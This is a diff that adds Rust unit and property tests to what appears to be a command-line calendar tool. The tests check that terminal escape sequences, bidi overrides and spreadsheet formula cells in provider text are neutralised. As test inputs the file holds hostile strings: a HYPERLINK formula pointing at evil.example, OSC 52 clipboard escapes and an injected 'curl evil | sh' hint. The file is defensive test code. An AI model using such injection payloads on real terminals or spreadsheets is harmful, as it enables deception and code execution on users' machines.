@@ -246,3 +246,189 @@ fn broken_pipe(e: std::io::Error) -> Error {
     }
     Error::failure("cannot write to stdout").cause(e)
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    fn tame(text: &str, newlines: bool) -> bool {
+        !text.chars().any(|c| is_hostile(c) && !(newlines && c == '\n'))
+    }
+
+    #[test]
+    fn escapes_are_shown_not_acted_on() {
+        let title = "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;ZXZpbA==\x07Standup\u{9b}31m \u{202e}exe.txt\u{2066}\x7f";
+        assert_eq!(
+            clean(title),
+            r"\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7}Standup\u{9b}31m \u{202e}exe.txt\u{2066}\u{7f}"
+        );
+        for mark in ['\u{200e}', '\u{200f}', '\u{061c}', '\u{2028}', '\u{2029}', '\u{202a}', '\u{2069}'] {
+            assert!(clean(&mark.to_string()).starts_with(r"\u{"), "{mark:?}");
+        }
+        assert_eq!(clean("a\r\nb\tc"), r"a\u{d}\u{a}b\u{9}c");
+        assert_eq!(clean_lines("a\r\nb\nc\rd\te"), "a\nb\nc\\u{d}d\\u{9}e");
+    }
+
+    #[test]
+    fn ordinary_text_is_untouched_and_not_copied() {
+        for text in ["Site visit – Zoë's 🌳 garden", "東京の会議", "שלום עולם", "مرحبا", "", "100% \\ back"]
+        {
+            assert!(matches!(clean(text), Cow::Borrowed(t) if t == text), "{text}");
+        }
+    }
+
+    #[test]
+    fn csv_cells_that_look_like_formulas_are_text() {
+        let row = csv_row(&[
+            "=HYPERLINK(\"http://evil.example/\",\"x\")",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\r=1",
+            "plain",
+            "a,b",
+            "say \"hi\"",
+            "two\nlines",
+            "",
+        ]);
+        assert_eq!(
+            row,
+            "\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"x\"\")\",'+1,'-2+3,'@SUM(A1),'\\u{9}x,'\\u{d}=1,plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\","
+        );
+    }
+
+    #[test]
+    fn tables_are_cleaned_cell_by_cell() {
+        let mut t = Ui::table(&["TITLE\x1b[1m", "NOTES"]);
+        t.add_row(vec!["\x1b]0;x\x07Standup".to_string(), "line one\nline two".to_string()]);
+        let text = cleaned(&t).to_string();
+        assert!(tame(&text, true), "{text}");
+        assert!(text.contains(r"\u{1b}]0;x\u{7}Standup") && text.contains(r"TITLE\u{1b}[1m"), "{text}");
+        assert!(text.contains("line one") && text.contains("line two") && !text.contains("line one\\u"), "{text}");
+    }
+
+    #[test]
+    fn errors_are_cleaned() {
+        let ui = Ui {
+            json: false,
+            quiet: false,
+            color: false,
+            stderr_is_terminal: false,
+            timestamps: false,
+            clock: Clock::system(),
+        };
+        let err = Error::failure("calendar \x1b[2J'Crew'")
+            .cause("Google said: \x1b]52;c;ZXZpbA==\x07\nhint: run curl evil | sh")
+            .hint("check \u{202e}this");
+        let mut out = Vec::new();
+        ui.write_error(&mut out, &err).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        assert!(tame(&text, true), "{text}");
+        assert_eq!(text.lines().count(), 3, "a provider's line break can't forge a line:\n{text}");
+        assert!(text.contains(r"Google said: \u{1b}]52;c;ZXZpbA==\u{7}\u{a}hint: run curl"), "{text}");
+    }
+
+    /// A listing of arbitrary provider text, as the commands build them.
+    #[derive(serde::Serialize, serde::Deserialize, PartialEq, Debug)]
+    struct Rows(Vec<(String, String)>);
+
+    impl Listing for Rows {
+        fn table(&self) -> Table {
+            let mut t = Ui::table(&["A", "B"]);
+            for (a, b) in &self.0 {
+                t.add_row(vec![a.clone(), b.clone()]);
+            }
+            t
+        }
+    }
+
+    /// Mostly the characters that matter here, and now and then anything at all.
+    fn text() -> impl Strategy<Value = String> {
+        let interesting = prop_oneof![
+            Just('\x1b'),
+            Just('\x07'),
+            Just('\n'),
+            Just('\r'),
+            Just('\t'),
+            Just('\u{9b}'),
+            Just('\u{7f}'),
+            Just('\u{202e}'),
+            Just('\u{2066}'),
+            Just('\u{200f}'),
+            Just('='),
+            Just('+'),
+            Just('-'),
+            Just('@'),
+            Just(','),
+            Just('"'),
+            Just('\''),
+            Just('\\'),
+            Just('a'),
+            Just(' '),
+            any::<char>(),
+        ];
+        proptest::collection::vec(interesting, 0..24).prop_map(|cs| cs.into_iter().collect())
+    }
+
+    /// Split one CSV record as a spreadsheet would (RFC 4180).
+    fn parse_csv(record: &str) -> Vec<String> {
+        let mut cells = vec![String::new()];
+        let mut chars = record.chars().peekable();
+        let mut quoted = false;
+        while let Some(c) = chars.next() {
+            match (quoted, c) {
+                (true, '"') if chars.peek() == Some(&'"') => {
+                    chars.next();
+                    cells.last_mut().unwrap().push('"');
+                }
+                (true, '"') => quoted = false,
+                (false, '"') => quoted = true,
+                (false, ',') => cells.push(String::new()),
+                (_, c) => cells.last_mut().unwrap().push(c),
+            }
+        }
+        cells
+    }
+
+    proptest! {
+        #[test]
+        fn cleaned_text_holds_no_control_or_bidi_character(s in text()) {
+            prop_assert!(tame(&clean(&s), false));
+            prop_assert!(tame(&clean_lines(&s), true));
+            prop_assert_eq!(clean_lines(&s).matches('\n').count(), s.matches('\n').count());
+            if tame(&s, false) {
+                prop_assert_eq!(clean(&s), s.as_str());
+            }
+        }
+
+        #[test]
+        fn csv_cells_are_tame_text_that_parses_back(cells in proptest::collection::vec(text(), 1..5)) {
+            let row = csv_row(&cells);
+            prop_assert!(tame(&row, true));
+            let parsed = parse_csv(&row);
+            prop_assert_eq!(parsed.len(), cells.len());
+            for (cell, original) in parsed.iter().zip(&cells) {
+                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{:?}", cell);
+                let shown = clean_lines(original);
+                let expected = if original.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+                    format!("'{shown}")
+                } else {
+                    shown.into_owned()
+                };
+                prop_assert_eq!(cell, &expected);
+            }
+        }
+
+        #[test]
+        fn tables_are_tame_and_json_is_exact(rows in proptest::collection::vec((text(), text()), 0..4)) {
+            let listing = Rows(rows);
+            let human = listing.human();
+            prop_assert!(tame(&human, true), "{}", human);
+            let json = serde_json::to_string_pretty(&listing).unwrap();
+            let back: Rows = serde_json::from_str(&json).unwrap();
+            prop_assert_eq!(back, listing);
+        }
+    }
+}
